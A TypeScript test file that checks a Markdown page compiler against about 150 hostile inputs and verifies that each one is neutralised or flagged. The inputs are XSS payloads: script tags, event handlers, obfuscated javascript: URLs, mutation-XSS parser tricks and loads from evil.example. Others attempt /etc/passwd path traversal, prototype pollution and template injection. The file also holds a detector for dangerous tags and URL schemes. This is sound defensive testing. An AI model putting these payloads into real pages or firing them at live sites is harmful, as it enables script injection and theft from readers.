import type { Element, Root } from 'hast'
import { raw } from 'hast-util-raw'
import { describe, expect, it } from 'vitest'
import { compilePage } from './compile-page.ts'

const script = '<script>alert(1)</script>'

/**
 * Markdown that tries to run code in a reader's browser, with the code of the expected diagnostic. Without a code, the
 * text loses nothing that an author would miss: it is shown as text or has no meaning.
 */
const attacks: [markdown: string, reported?: string][] = [
  // Elements that run or load code.
  [script, 'unsafe-html'],
  ['<ScRiPt src=//evil.example/x.js></sCrIpT>', 'unsafe-html'],
  ['<script/x>alert(1)</script/x>'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'unsafe-html'],
  ['<script\n>\nalert(1)\n</script\n>', 'unsafe-html'],
  ['<iframe src="https://evil.example"></iframe>', 'unsafe-html'],
  ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', 'unsafe-html'],
  ['<object data="javascript:alert(1)"></object>', 'unsafe-html'],
  ['<embed src="data:text/html,<script>alert(1)</script>">', 'unsafe-html'],
  ['<applet code=x></applet>', 'unsafe-html'],
  ['<base href="https://evil.example/">', 'unsafe-html'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', 'unsafe-html'],
  ['<link rel=stylesheet href="https://evil.example/x.css">', 'unsafe-html'],
  ['<link rel=preload as=script href="https://evil.example/x.js">', 'unsafe-html'],
  ['<style>@import "https://evil.example/x.css"</style>', 'unsafe-html'],
  ['<form action="https://evil.example"><input name=q><button>go</button></form>', 'unsafe-html'],
  ['<button formaction="javascript:alert(1)">x</button>', 'unsafe-html'],
  ['<input type=image src=x onerror=alert(1)>', 'unsafe-html'],
  ['<isindex action="javascript:alert(1)">', 'unsafe-html'],
  ['<portal src="https://evil.example"></portal>', 'unsafe-html'],
  ['<dialog open><form method=dialog>x</form></dialog>', 'unsafe-html'],

  // Event handlers and styles.
  ['<img src=x onerror=alert(1)>', 'unsafe-html'],
  ['<img src=x OnErRoR = "alert(1)">', 'unsafe-html'],
  ['<img/src="x"/onerror="alert(1)">'],
  ['<body onload=alert(1)>'],
  ['<details open ontoggle=alert(1)>x</details>', 'unsafe-html'],
  ['<video oncanplay=alert(1)><source src=x></video>', 'unsafe-html'],
  ['<a href="#" onfocus=alert(1) autofocus tabindex=1>x</a>', 'unsafe-html'],
  ['<div onpointerrawupdate=alert(1)>x</div>', 'unsafe-html'],
  ['<p style="background:url(javascript:alert(1))">x</p>', 'unsafe-html'],
  ['<p style="position:fixed;inset:0">cover</p>', 'unsafe-html'],

  // URLs.
  ['[x](javascript:alert(1))', 'unsafe-html'],
  ['[x](JaVaScRiPt:alert(1))', 'unsafe-html'],
  ['[x](&#106;&#97;vascript:alert(1))', 'unsafe-html'],
  ['[x](java&Tab;script:alert(1))', 'unsafe-html'],
  ['[x](java&NewLine;script:alert(1))', 'unsafe-html'],
  ['[x](<javascript&colon;alert(1)>)', 'unsafe-html'],
  ['[x](vbscript:msgbox(1))', 'unsafe-html'],
  [`[x](<data:text/html,${script}>)`, 'unsafe-html'],
  ['[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'unsafe-html'],
  ['[x][y]\n\n[y]: javascript:alert(1)', 'unsafe-html'],
  ['<javascript:alert(1)>', 'unsafe-html'],
  ['<a href="\u0001javascript:alert(1)">x</a>', 'unsafe-html'],
  ['<a href=" &#14; javascript:alert(1)">x</a>', 'unsafe-html'],
  ['<a href="javas\tcript:alert(1)">x</a>', 'unsafe-html'],
  ['<a href="jav&#x0A;ascript:alert(1)">x</a>', 'unsafe-html'],
  ['![x](javascript:alert(1))', 'unsafe-html'],
  ['<video src="javascript:alert(1)" poster="javascript:alert(2)"></video>', 'unsafe-html'],
  ['<a href="blob:https://evil.example/1">x</a>', 'unsafe-html'],
  ['<a href="file:///etc/passwd">x</a>', 'unsafe-html'],
  ['<img srcset="javascript:alert(1) 1x">', 'unsafe-html'],
  ['<img srcset="/a.png 1x, vbscript:x 2x">', 'unsafe-html'],
  ['<a ping="https://evil.example" href="/">x</a>'],

  // SVG, MathML, and HTML that changes its meaning when it is parsed twice.
  ['<svg onload=alert(1)>', 'unsafe-html'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'unsafe-html'],
  ['<svg><animate attributeName=href values="javascript:alert(1)"/></svg>', 'unsafe-html'],
  ['<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>', 'unsafe-html'],
  ['<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x"/></svg>', 'unsafe-html'],
  ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', 'unsafe-html'],
  [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'unsafe-html',
  ],
  ['<math href="javascript:alert(1)">x</math>', 'unsafe-html'],
  [
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    'unsafe-html',
  ],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 'unsafe-html'],
  ['<template><script>alert(1)</script></template>', 'unsafe-html'],
  ['<textarea></textarea><img src=x onerror=alert(1)></textarea>', 'unsafe-html'],
  ['<title></title><img src=x onerror=alert(1)></title>', 'unsafe-html'],
  ['<xmp><p title="</xmp><img src=x onerror=alert(1)>">', 'unsafe-html'],
  ['<plaintext><img src=x onerror=alert(1)>', 'unsafe-html'],
  ['<select><style></select><img src=x onerror=alert(1)></style>', 'unsafe-html'],
  ['<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>', 'unsafe-html'],
  ['<!--><img src=x onerror=alert(1)>-->', 'unsafe-html'],
  ['<!-- --!><img src=x onerror=alert(1)> -->', 'unsafe-html'],
  ['<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['<?xml <img src=x onerror=alert(1)> ?>'],
  ['<a title="</a><img src=x onerror=alert(1)>">x</a>'],

  // IDs, classes, and attributes that our own scripts and style sheets select.
  ['<div id="shell:menu">x</div>'],
  ['<a name="shell:search" href="#">x</a>'],
  ['## x {#shell:menu}'],
  ['[x]{#shell:menu}'],
  ['<button popovertarget="shell:menu">x</button>', 'unsafe-html'],
  ['<div data-island="search" data-props="{}">x</div>'],
  ['<div data-copy-code>x</div>'],
  ['<img name="getElementById" src="x" alt="">'],
  ['<sealed>x</sealed><Sealed>y</Sealed>', 'unsafe-html'],

  // Attributes in braces.
  ['**x**{onclick="alert(1)"}', 'unsafe-html'],
  ['[x](/a){onclick="alert(1)" style="color:red" data-island="x"}', 'unsafe-html'],
  ['[x](/a){href="javascript:alert(1)"}', 'unsafe-html'],
  ['![x](/a.png){srcdoc="x" onload="alert(1)"}', 'unsafe-html'],
  ['`x`{onmouseover="alert(1)"}', 'unsafe-html'],
  ['## x {onclick="alert(1)"}'],

  // Components, and their props.
  [`::script{src="https://evil.example/x.js"}\nalert(1)\n::`, 'unsafe-html'],
  ['::style\n@import "https://evil.example/x.css"\n::', 'unsafe-html'],
  ['::object{data="https://evil.example"}\n::', 'unsafe-html'],
  ['::div{onclick="alert(1)"}\nx\n::', 'unsafe-html'],
  ['::card{onclick="alert(1)" to="/"}\nx\n::', 'unsafe-html'],
  ['::card{:onclick="alert(1)" @click="alert(1)"}\nx\n::'],
  ['::card{to="javascript:alert(1)"}\nx\n::', 'unsafe-html'],
  ['::card{href="java\tscript:alert(1)"}\nx\n::', 'unsafe-html'],
  ['::card\n---\nto: "javascript:alert(1)"\n---\nx\n::', 'unsafe-html'],
  ['::hero\n---\nlinks: [{ label: x, to: "javascript:alert(1)" }]\n---\n::', 'unsafe-html'],
  ['::logos{:items=\'[{"src":"/a.png","to":"javascript:alert(1)"}]\'}\n::', 'unsafe-html'],
  ['::logos{:items=\'["data:text/html,x"]\'}\n::', 'unsafe-html'],
  ['::iframe{src="javascript:alert(1)"}\n::', 'unsafe-html'],
  ['::iframe{src="data:text/html,x"}\n::', 'unsafe-html'],
  ['::iframe{src="//evil.example" srcdoc="<script>alert(1)</script>"}\n::', 'unsafe-html'],
  ["::youtube{id='\"><script>alert(1)</script>'}\n::"],
  ['::color-mode-image{light="javascript:alert(1)" dark="x"}\n::', 'unsafe-html'],
  [`::card{title="${script.replaceAll('"', '')}"}\nx\n::`],
  [':button[x]{to="vbscript:x"}', 'unsafe-html'],
  [`:icon{name="<svg onload=alert(1)>"}`, 'unknown-icon'],
  [':icon{name="i-../../../../etc/passwd"}', 'unknown-icon'],
  [':icon{name="__proto__"}', 'unknown-icon'],
  ['::card{icon="i-lucide-x\\"onload=alert(1)"}\nx\n::'],
  ['::card{icon="constructor"}\nx\n::', 'unknown-icon'],
  ['::constructor{__proto__="x"}\nx\n::', 'unknown-component'],
  ['::card{constructor="x" title="y"}\nx\n::', 'unsafe-html'],
  ['::div{constructor="x"}\nx\n::', 'unsafe-html'],
  ['::div{innerHTML="<b>x</b>" ref="y"}\nx\n::', 'unsafe-html'],
  ['::card{ui="{}" class="x\\" onclick=alert(1)"}\nx\n::'],

  // Code, which is text.
  [`\`\`\`html [${script}]\n${script}\n\`\`\``],
  [`\`\`\`html title='"><img src=x onerror=alert(1)>'\nx\n\`\`\``],
  [`\`\`\`"><img/src=x/onerror=alert(1)>\nx\n\`\`\``, 'unknown-language'],
  [`\`${script}\``],
  [`    ${script}`],
  [`\`\`\`npm\nnpm i "${script}"\n\`\`\``],

  // Callouts, bindings, and other syntax.
  [`::: tip ${script}\nx\n:::`],
  [`> [!NOTE] ${script}\n> x`],
  ['::: details x {onclick="alert(1)"}\nx\n:::', 'unsafe-html'],
  ['::: tip x {to="javascript:alert(1)"}\nx\n:::', 'unsafe-html'],
  [`---\ntitle: "${script}"\n---\n{{ $doc.title }}`],
  [`---\nurl: "javascript:alert(1)"\n---\n[x]({{ $doc.url }})`],
  [`{{ $doc.nothing || '${script}' }}`],
  ['{{ constructor.constructor("alert(1)")() }}'],
  [`a[^1]\n\n[^1]: ${script}`, 'unsafe-html'],
  [`| a |\n|---|\n| ${script} |`, 'unsafe-html'],
  ['$\\href{javascript:alert(1)}{x}$', 'unreadable-formula'],
  ['$\\style{color:red}{x}$', 'unreadable-formula'],
  [`$\\text{${script}}$`],
  [`\`\`\`mermaid\ngraph TD\n  A["${script}"] --> B\n  click A "javascript:alert(1)"\n\`\`\``],
  ['<<< ../../../../../etc/passwd', 'missing-file'],
  ['::include{src="https://evil.example/x.md"}\n::', 'missing-file'],
  [`:${script}:`, 'unsafe-html'],
]

const forbidden =
  /^(script|style|object|embed|applet|base|meta|link|form|textarea|noscript|template|portal|dialog|select|title|foreignobject|animate|sealed)$/i
const urlAttributes = new Set([
  'href',
  'src',
  'srcSet',
  'poster',
  'action',
  'formAction',
  'xLinkHref',
  'data',
  'cite',
  'ping',
])
const ownData = new Set([
  'dataCopyCode',
  'dataColor',
  'dataVariant',
  'dataSync',
  'dataLabel',
  'dataMissing',
  'dataFootnoteRef',
  'dataFootnoteBackref',
])

function elementsOf(parent: Root | Element): Element[] {
  return parent.children.flatMap((node) => (node.type === 'element' ? [node, ...elementsOf(node)] : []))
}

/** Lists the parts of an article's HTML that could affect a reader's browser, as a browser parses that HTML. */
function dangersIn(html: string): string[] {
  const root = raw({ type: 'root', children: [{ type: 'raw', value: html }] }) as Root
  return elementsOf(root).flatMap((element) => [
    ...(forbidden.test(element.tagName) ? [`<${element.tagName}>`] : []),
    ...Object.entries(element.properties)
      .filter(([name, value]) => isDangerous(element, name, value))
      .map(([name, value]) => `${name}=${String(value)}`),
  ])
}

function isDangerous({ tagName }: Element, name: string, value: unknown): boolean {
  const text = [value].flat().join(' ')
  if (/^on/i.test(name) || ['style', 'srcDoc', 'ping'].includes(name)) return true
  if (/^data[A-Z]/.test(name) && !ownData.has(name)) return true
  if (['id', 'name', 'popovertarget', 'popoverTarget'].includes(name) && text.startsWith('shell:')) return true
  if (!urlAttributes.has(name)) return false
  if (tagName === 'iframe') return !text.startsWith('https://')
  const scheme = /^\s*([^/?#\s]*?):/.exec(text.replace(/[\p{Cc}\s]/gu, ''))?.[1]?.toLowerCase()
  const isImage = tagName === 'img' && text.startsWith('data:image/')
  return scheme !== undefined && !['http', 'https', 'mailto', 'tel'].includes(scheme) && !isImage
}

describe('hostile HTML in a page', () => {
  it.each(attacks)('has no effect: %s', async (markdown, reported) => {
    const { document, diagnostics } = await compilePage(
      markdown.startsWith('---') ? markdown : `before\n\n${markdown}\n\nafter`,
    )
    expect(dangersIn(document?.html ?? '')).toEqual([])
    const codes = diagnostics.map(({ code }) => code)
    expect(codes).not.toContain('not-rendered')
    if (reported) expect(codes).toContain(reported)
    else expect(codes).not.toContain('unsafe-html')
  })

  it('is detected by this test', () => {
    expect(
      dangersIn(
        '<p onclick=x style=y><a href="java&Tab;script:x">a</a><script>x</script><iframe src=x></iframe><img src=x></p>',
      ),
    ).toEqual(['onClick=x', 'style=y', 'href=java\tscript:x', '<script>', 'src=x'])
  })

  it.each([script, '<img src=x onerror=alert(1)>'])('stays text in titles and descriptions: %s', async (text) => {
    const { fields } = await compilePage(`---\ntitle: '${text}'\n---\n`)
    expect(fields.title).toBe(text)
  })
})
